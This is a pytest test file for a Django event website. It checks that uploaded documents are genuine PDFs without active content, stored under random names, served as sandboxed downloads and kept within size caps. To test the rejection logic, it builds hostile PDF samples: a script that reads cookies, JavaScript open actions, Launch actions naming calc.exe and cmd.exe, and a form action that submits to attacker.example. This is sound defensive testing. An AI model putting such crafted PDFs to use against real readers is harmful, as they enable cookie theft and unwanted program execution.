"""Uploads: documents are PDFs without scripts, stored under names the server picks and served as
downloads; every kind of file has a size cap with a clear message."""

import io
import re

import pytest
import weasyprint
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from delegates.roles import ORGANIZERS
from events.forms import DocumentAdminForm
from events.models import Document, Exhibit

from .factories import DocumentFactory, EventFactory, OrganizationFactory, open_event, staff_member, superuser

pytestmark = pytest.mark.django_db

HTML_WITH_PDF_HEADER = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
NOT_A_PDF = "Upload the document as a PDF file."
ACTIVE = (
    "This PDF contains {what}, which the site does not publish. Print it to a new PDF "
    "(or export it again without these features) and upload that file."
)


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def declaration_pdf() -> bytes:
    """A real document as a word processor would make it: text in three scripts and a web link."""
    html = (
        '<h1>Lanzhou Declaration</h1><p>宣言 · Декларация</p><a href="https://example.org/">example.org</a>'
    )
    return weasyprint.HTML(string=html).write_pdf()


def pdf_with(change=None) -> bytes:
    """A one-page PDF made by pypdf, after `change(writer)`."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def open_action(action: str, **entries):
    """A change that makes the PDF run an action of this type when it is opened."""

    def change(writer):
        action_dictionary = DictionaryObject({NameObject("/S"): NameObject(action)})
        for key, value in entries.items():
            action_dictionary[NameObject(f"/{key}")] = TextStringObject(value)
        writer._root_object[NameObject("/OpenAction")] = action_dictionary

    return change


def link_with_action(action: str, **entries):
    """A change that adds a link annotation whose action is of this type."""

    def change(writer):
        action_dictionary = DictionaryObject({NameObject("/S"): NameObject(action)})
        for key, value in entries.items():
            action_dictionary[NameObject(f"/{key}")] = TextStringObject(value)
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/A"): action_dictionary,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return change


def document_data(event, upload, **changes) -> dict:
    """The admin's add form of a document, filled in."""
    return {
        "event": str(event.pk),
        "kind": Document.Kind.OUTCOME,
        "title_en": "Lanzhou Declaration",
        "slug": "lanzhou-declaration",
        "published_on": "2031-10-17",
        "summary_en": "",
        "body_en": "",
        "file": upload,
        **changes,
    }


def admin_add_document(client, upload):
    """Send the admin's add form of a document as a superuser."""
    client.force_login(superuser())
    return client.post(reverse("admin:events_document_add"), document_data(EventFactory(), upload))


def test_document_form_refuses_html_with_a_pdf_header(media_root):
    event = EventFactory()
    upload = SimpleUploadedFile("declaration.pdf", HTML_WITH_PDF_HEADER, content_type="application/pdf")

    form = DocumentAdminForm(
        data=document_data(event, None, title="Lanzhou Declaration"), files={"file": upload}
    )

    assert not form.is_valid()
    assert form.errors["file"] == [NOT_A_PDF]


def test_admin_refuses_html_with_a_pdf_header(client, media_root):
    upload = SimpleUploadedFile("declaration.html", HTML_WITH_PDF_HEADER, content_type="text/html")

    response = admin_add_document(client, upload)

    assert response.status_code == 200
    assert response.context["adminform"].form.errors == {"file": [NOT_A_PDF]}
    assert list(Document.objects.all()) == []
    assert list(media_root.rglob("*")) == []


@pytest.mark.parametrize(
    ("change", "what"),
    [
        (open_action("/JavaScript", JS="app.alert(document.cookie)"), "JavaScript"),
        (lambda writer: writer.add_open_action(JavaScript("this.print();")), "JavaScript"),
        (link_with_action("/JavaScript", JS="app.alert(1)"), "JavaScript"),
        (
            open_action("/Launch", F="calc.exe"),
            "an action that starts a program, opens another file or sends data",
        ),
        (
            link_with_action("/Launch", F="cmd.exe"),
            "an action that starts a program, opens another file or sends data",
        ),
        (
            link_with_action("/SubmitForm", F="https://attacker.example/"),
            "an action that starts a program, opens another file or sends data",
        ),
        (lambda writer: writer.add_attachment("payload.html", b"<script>1</script>"), "attached files"),
    ],
    ids=[
        "open-action-js",
        "document-js",
        "link-js",
        "open-action-launch",
        "link-launch",
        "submit",
        "attachment",
    ],
)
def test_admin_refuses_a_pdf_that_runs_something(client, media_root, change, what):
    upload = SimpleUploadedFile("declaration.pdf", pdf_with(change), content_type="application/pdf")

    response = admin_add_document(client, upload)

    assert response.status_code == 200
    assert response.context["adminform"].form.errors == {"file": [ACTIVE.format(what=what)]}
    assert list(Document.objects.all()) == []
    assert list(media_root.rglob("*")) == []


def test_admin_refuses_a_pdf_that_needs_a_password(client, media_root):
    def protect(writer):
        writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-256")

    response = admin_add_document(client, SimpleUploadedFile("declaration.pdf", pdf_with(protect)))

    assert response.context["adminform"].form.errors == {
        "file": ["This PDF is encrypted or protected by a password: upload it without protection."]
    }
    assert list(Document.objects.all()) == []


def test_admin_stores_a_valid_pdf_under_a_random_pdf_name(client, media_root):
    pdf = declaration_pdf()
    upload = SimpleUploadedFile("declaration.html", pdf, content_type="text/html")

    response = admin_add_document(client, upload)

    assert response.status_code == 302
    document = Document.objects.get()
    assert re.fullmatch(rf"documents/{document.event_id}/[0-9a-f]{{32}}\.pdf", document.file.name)
    assert [path.relative_to(media_root).as_posix() for path in media_root.rglob("*.*")] == [
        document.file.name
    ]
    assert (media_root / document.file.name).read_bytes() == pdf


def test_document_is_served_as_a_pdf_download(client, media_root):
    pdf = declaration_pdf()
    admin_add_document(client, SimpleUploadedFile("Declaration FINAL.pdf", pdf))
    document = Document.objects.get()
    document.event.status = "published"
    document.event.save()
    client.logout()

    response = client.get(f"/events/{document.event.slug}/documents/lanzhou-declaration/file.pdf")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="lanzhou-declaration.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert b"".join(response.streaming_content) == pdf


def test_document_page_links_to_the_download_not_to_media(client, media_root):
    document = DocumentFactory(event=EventFactory(status="published"), slug="declaration")
    document.file.save("anything.pdf", io.BytesIO(pdf_with()))

    content = client.get(document.get_absolute_url()).content.decode()

    assert f'href="/events/{document.event.slug}/documents/declaration/file.pdf"' in content
    assert "/media/" not in content


@pytest.mark.parametrize("status", ["draft", "published"])
def test_document_download_is_404_without_a_file_or_for_a_draft(client, media_root, status):
    event = EventFactory(status=status)
    without_file = DocumentFactory(event=event, slug="no-file")
    with_file = DocumentFactory(event=event, slug="with-file")
    with_file.file.save("x.pdf", io.BytesIO(pdf_with()))
    other = DocumentFactory(event=EventFactory(status="published"), slug="elsewhere")
    other.file.save("x.pdf", io.BytesIO(pdf_with()))

    base = f"/events/{event.slug}/documents"
    assert client.get(f"{base}/{without_file.slug}/file.pdf").status_code == 404
    assert client.get(f"{base}/elsewhere/file.pdf").status_code == 404  # looked up through its edition
    assert client.get(f"{base}/{with_file.slug}/file.pdf").status_code == (404 if status == "draft" else 200)


def test_document_download_is_404_when_the_file_is_lost(client, media_root):
    document = DocumentFactory(event=EventFactory(status="published"), slug="lost")
    document.file.save("x.pdf", io.BytesIO(pdf_with()))
    (media_root / document.file.name).unlink()

    assert client.get(f"/events/{document.event.slug}/documents/lost/file.pdf").status_code == 404


def test_admin_refuses_a_document_over_the_size_cap(client, media_root, settings):
    pdf = declaration_pdf()
    settings.FORUM_MAX_DOCUMENT_BYTES = len(pdf) - 1

    response = admin_add_document(client, SimpleUploadedFile("declaration.pdf", pdf))

    assert response.context["adminform"].form.errors == {
        "file": [f"This file is {kilobytes(len(pdf))}; the largest accepted is {kilobytes(len(pdf) - 1)}."]
    }
    assert list(Document.objects.all()) == []


def kilobytes(size: int) -> str:
    """A size as the messages write it: "12.3 KB" (with a no-break space)."""
    return f"{size / 1024:.1f}\xa0KB"


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (300, 200), "red").save(buffer, format="PNG")
    return buffer.getvalue()


def test_admin_refuses_a_picture_over_the_size_cap(client, media_root, settings):
    settings.FORUM_MAX_IMAGE_BYTES = 100
    client.force_login(superuser())
    picture = png_bytes()
    data = {
        "event": str(EventFactory().pk),
        "exhibitor": str(OrganizationFactory().pk),
        "title_en": "BeiDou stand",
        "slug": "beidou-stand",
        "countries_served": ["KZ"],
        "image": SimpleUploadedFile("stand.png", picture, content_type="image/png"),
        "image_alt_en": "A satellite model",
    }

    response = client.post(reverse("admin:events_exhibit_add"), data)

    assert response.status_code == 200
    assert response.context["adminform"].form.errors == {
        "image": [f"This file is {len(picture)}\xa0bytes; the largest accepted is 100\xa0bytes."]
    }
    assert list(Exhibit.objects.all()) == []
    assert list(media_root.rglob("*")) == []


def test_import_refuses_a_file_over_the_size_cap(client, settings):
    open_event(slug="forum")
    client.force_login(staff_member(ORGANIZERS))
    settings.FORUM_MAX_IMPORT_BYTES = 1024
    upload = SimpleUploadedFile(
        "delegation.csv", b"email\n" + b"a@example.org\n" * 200, content_type="text/csv"
    )

    response = client.post(reverse("staff:import", args=["forum"]), {"file": upload})

    assert response.status_code == 200
    message = "This file is 2.7\xa0KB; the largest accepted is 1.0\xa0KB."
    assert response.context["file_error"] == message
    assert message in response.content.decode()
    assert "rows" not in response.context
